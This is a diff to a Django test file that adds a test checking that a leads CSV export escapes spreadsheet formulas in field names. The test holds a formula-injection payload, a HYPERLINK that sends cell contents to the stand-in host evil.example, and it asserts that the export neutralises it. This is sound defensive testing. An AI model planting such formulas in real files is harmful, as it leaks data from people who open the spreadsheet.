@@ -1,3 +1,6 @@
+import csv
+import io
+
 import pytest
 from django.test import Client
 
@@ -86,6 +89,19 @@ def test_leads_csv_export_neutralises_formulas(auth_client, page):
     assert header.startswith("created_at,") and header.endswith(",ip_address")
     assert set(header.split(",")[1:-1]) == {"name", "phone", "email"}
     assert any("'=HYPERLINK" in row for row in rows)
+
+
+def test_leads_csv_export_neutralises_formulas_in_field_names(auth_client, page):
+    field = '=HYPERLINK("https://evil.example/?x="&A2,"Open")'
+    LeadFactory(page=page, data={field: "Lan", "@SUM(1+1)": "x", "email": "b@c.vn"})
+    response = auth_client.get(f"/api/pages/{page.pk}/leads.csv")
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    header_cells = next(csv.reader(io.StringIO(text)))
+    assert header_cells[1:-1] == ["'" + field, "'@SUM(1+1)", "email"]
+    assert not any(cell.startswith(("=", "@", "+", "-")) for cell in header_cells)
+    # The values still land under their (escaped) column.
+    row = list(csv.reader(io.StringIO(text)))[1]
+    assert row[1:-1] == ["Lan", "x", "b@c.vn"]
 
 
 def test_views_are_counted_in_cache_and_flushed(published, django_assert_num_queries):
